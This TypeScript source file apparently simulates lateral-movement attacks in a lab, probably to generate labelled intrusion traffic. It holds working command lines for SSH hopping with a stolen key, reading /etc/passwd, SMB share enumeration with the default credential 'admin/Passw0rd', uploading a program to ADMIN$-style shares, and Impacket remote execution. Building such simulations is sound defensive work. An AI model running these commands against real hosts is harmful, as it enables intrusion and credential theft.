import type {Attack, Scene} from "../configuration.ts";

const ssh = ({folder}: Scene) =>
  `-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=4 -o BatchMode=yes -i ${folder}/id`;

/** From one host to the next: looks which services are there, gets in by a stolen key, leaves a tool, runs it. */
export const sshHops: Attack = {
  label: "Infiltration",
  tool: "ssh-hops",
  needs: ["ssh", "scp", "ncat"],
  against: ["ssh"],
  plan(scene) {
    const {random, addresses, host, endpoints, folder, user} = scene;
    const {address, port} = endpoints.ssh;
    const others = random
      .shuffled(addresses.filter((one) => one !== host.address && one !== address))
      .slice(0, random.integer(3, 8));
    const tries = others.map((one) => `ncat -n -z -w 1 ${one} 22; ssh ${ssh(scene)} ${user.name}@${one} id`);
    const there = `${user.name}@${address}`;
    const inside = [
      `ssh ${ssh(scene)} -p ${port} ${there} 'id; uname -a; ls -la /etc'`,
      `scp -q ${ssh(scene)} -P ${port} ${folder}/files/${random.integer(0, 7)}.bin ${there}:${folder}/incoming/tool-${random.word(4)}`,
      `ssh ${ssh(scene)} -p ${port} ${there} 'cat /etc/passwd; ls -R /usr/lib | head -400'`
    ];
    const pause = `sleep ${random.uniform(0.4, 3).toFixed(1)}`;
    return {
      commands: [["sh", "-c", [...tries, ...inside].join(`; ${pause}; `)]],
      seconds: 70,
      to: [address, ...others]
    };
  }
};

/** The same over SMB: lists shares as several users, asks for the administrator's, puts a program there. */
export const smbSpread: Attack = {
  label: "Infiltration",
  tool: "smb-spread",
  needs: ["smbclient"],
  against: ["smb"],
  plan(scene) {
    const {random, addresses, host, endpoints, folder} = scene;
    const {address} = endpoints.smb!;
    const others = random
      .shuffled(addresses.filter((one) => one !== host.address && one !== address))
      .slice(0, random.integer(3, 9));
    const lists = [...others, address].map((one) => `timeout 4 smbclient -L //${one} -U admin%Passw0rd -t 3`);
    const shares = ["ADMIN$", "C$", "IPC$"].map(
      (name) => `timeout 5 smbclient '//${address}/${name}' -U admin%Passw0rd -c ls`
    );
    const put = `timeout 9 smbclient //${address}/incoming -N -c 'put ${folder}/files/${random.integer(0, 7)}.bin svc${random.word(4)}.exe; ls'`;
    const pause = `sleep ${random.uniform(0.2, 2).toFixed(1)}`;
    return {
      commands: [["sh", "-c", [...lists, ...shares, put].join(`; ${pause}; `)]],
      seconds: 70,
      to: [address, ...others]
    };
  }
};

/** Where Debian's python3-impacket has its programs; they want Debian's own Python. */
const impacket = "/usr/share/doc/python3-impacket/examples";

/** Remote execution as PsExec does it, by Impacket: pipes of services and tasks; the lab's server refuses them late. */
export const psexec: Attack = {
  label: "Infiltration",
  tool: "impacket",
  needs: [`${impacket}/psexec.py`],
  against: ["smb"],
  plan({endpoints, random}) {
    const {address} = endpoints.smb!;
    const each = random
      .shuffled([
        "psexec.py",
        "smbexec.py",
        "atexec.py",
        "services.py",
        "reg.py",
        "samrdump.py",
        "rpcdump.py",
        "lookupsid.py"
      ])
      .map((name) => {
        const rest =
          {"services.py": "list", "reg.py": "query -keyName HKLM", "atexec.py": "whoami", "psexec.py": "whoami"}[
            name
          ] ?? "";
        return `timeout 8 /usr/bin/python3 ${impacket}/${name} lab/admin:Passw0rd@${address} ${rest} </dev/null`;
      });
    return {commands: [["sh", "-c", each.join("; sleep 0.7; ")]], seconds: 60, to: [address]};
  }
};
